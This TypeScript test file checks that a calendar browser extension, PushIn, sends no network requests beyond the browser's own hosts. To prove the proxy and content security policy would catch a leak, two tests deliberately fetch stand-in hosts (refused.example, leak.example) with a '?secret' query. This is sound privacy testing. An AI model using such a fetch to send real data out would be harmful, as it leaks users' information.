import { expect, it } from 'vitest';
import { openCalendar } from '../support/browser/page/calendar-page';
import { openPopup } from '../support/browser/page/popup-in-tab';
import { until } from '../support/browser/surface/surface';
import { samplePage } from '../support/google-calendar-page/sample/sample-page';
import { inEachBrowser } from './in-each-browser';

/** The hosts that browsers ask by themselves, with or without PushIn: for updates, sign-in and settings. */
const BROWSERS_OWN = new Set([
  'accounts.google.com',
  'clients2.google.com',
  'clients2.googleusercontent.com',
  'update.googleapis.com',
  'optimizationguide-pa.googleapis.com',
  'content-signature-2.cdn.mozilla.net',
  'firefox.settings.services.mozilla.com',
  'firefox-settings-attachments.cdn.mozilla.net',
]);

inEachBrowser('no request leaves the extension', (session) => {
  it('on a whole journey through every surface', async () => {
    const page = await openCalendar(session(), samplePage('2026-09-14'));
    const asked: string[] = [];
    page.page.on('request', (request) => asked.push(request.url()));
    const [band] = await page.untilBands((drawn) => drawn.length > 10, 'the week');
    await page.overlay.openCard(band!.when);
    await until(async () => (await page.overlay.card())?.includes('what’s expected'), 'the notes');
    await page.press('Escape');
    await page.overlay.press('PushIn ·');
    await openPopup(session(), 'Ms. Rivera');
    for (const path of ['options.html', 'welcome.html']) {
      const surface = await session().openExtensionPage(path);
      await until(() => surface.run(() => document.querySelector('main')?.innerText), path);
    }
    await session().killBackground();
    await page.page.bringToFront();
    await page.click('[data-act=next]');
    await page.untilBands(
      (drawn) => drawn.length > 0 && drawn.every((one) => one.when > '2026-09-20'),
      'the next week',
    );
    // The page and our script in it ask for nothing. Through the proxy, which is the only way out, goes only what the
    // browser itself asks.
    expect(asked.filter((url) => url.startsWith('http'))).toEqual([]);
    const strangers = session().outside.asked.filter((host) => !BROWSERS_OWN.has(host));
    // The browser itself connects to the page's own host when a tab goes there.
    expect(new Set(strangers)).toEqual(new Set(strangers.filter((host) => host === 'calendar.google.com')));
  });

  it('as the browser refuses its pages any connection', async () => {
    const popup = await session().openExtensionPage('popup.html');
    const directive = await popup.run(
      () =>
        new Promise<string>((refused) => {
          addEventListener('securitypolicyviolation', (event) => refused(event.effectiveDirective));
          void fetch('https://refused.example/?secret').catch(() => undefined);
        }),
    );
    expect(directive).toBe('connect-src');
    expect(session().outside.asked).not.toContain('refused.example');
  });

  it('or this test would see it', async () => {
    const tab = await session().newPage();
    await tab.run(() => void fetch('https://leak.example/?secret', { mode: 'no-cors' }).catch(() => undefined));
    await until(() => session().outside.asked.includes('leak.example'), 'the leak to be seen');
    const page = await openCalendar(session(), samplePage('2026-09-14'));
    const asked: string[] = [];
    page.page.on('request', (request) => asked.push(request.url()));
    await page.run(() => void fetch('https://calendar.google.com/leak').catch(() => undefined));
    await until(() => asked.includes('https://calendar.google.com/leak'), 'the page’s leak to be seen');
  });
});
